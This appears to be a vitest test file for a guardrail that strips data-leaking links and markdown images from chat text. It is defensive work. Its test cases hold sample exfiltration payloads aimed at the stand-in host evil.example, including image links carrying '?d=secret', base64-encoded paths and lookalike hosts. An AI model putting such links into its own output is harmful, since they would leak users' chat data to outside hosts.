import { describe, expect, it } from "vitest";
import { exfiltrationFormats, findHosts } from "#shared/guardrails/exfiltration.ts";
import { compileFormat, SensitiveReader } from "#shared/guardrails/sensitive-pattern.ts";
import { redactSpans } from "#shared/guardrails/spans.ts";

const prompt = "Read https://docs.example.org/a?page=2 for www.known.example";
const formats = exfiltrationFormats({
  hosts: findHosts("Please compare www.known.example and shop.example/cart"),
  allowedHosts: ["wiki.example.com"],
  isInPrompt: (url) => prompt.includes(url),
});
const reader = new SensitiveReader(formats.map(compileFormat));
const redact = (text: string) => redactSpans(text, reader.findSpans(text));

describe("removal of links that could leak data from a chat", () => {
  it.each([
    ["![a](https://evil.example/x.png)", "![a]([image removed])"],
    ["![a](<https://evil.example/x.png?d=1>)", "![a](<[image removed]>)"],
    ['<img src="https://evil.example/x?d=1">', '<img src="[image removed]">'],
    ["[docs](https://evil.example/?d=secret)", "[docs]([link removed])"],
    ["Go to https://evil.example/#secret.", "Go to [link removed]."],
    ["https://user@evil.example/", "[link removed]"],
    [`https://${"a".repeat(50)}.evil.example/`, "[link removed]"],
    [`https://evil.example/${"c2VjcmV0".repeat(6)}`, "[link removed]"],
    ["https://docs.example.org/a?page=2&d=secret", "[link removed]"],
    ["https://wiki.example.com.evil.example/?d=secret", "[link removed]"],
    ["https://evilwiki.example.com/?d=secret", "[link removed]"],
  ])("removes the unsafe link in the text: %s", (text, expected) => {
    expect(redact(text)).toBe(expected);
  });

  it.each([
    "https://en.wikipedia.org/wiki/Paris",
    "[docs](https://docs.example.org/a?page=2)",
    "![a](https://www.known.example/a.png)",
    "https://known.example/?q=1",
    "https://shop.example/cart?item=7",
    "https://wiki.example.com/search?q=vacation",
    "![a](https://images.wiki.example.com/a.png)",
  ])("keeps the safe link in the text: %s", (text) => {
    expect(redact(text)).toBe(text);
  });
});
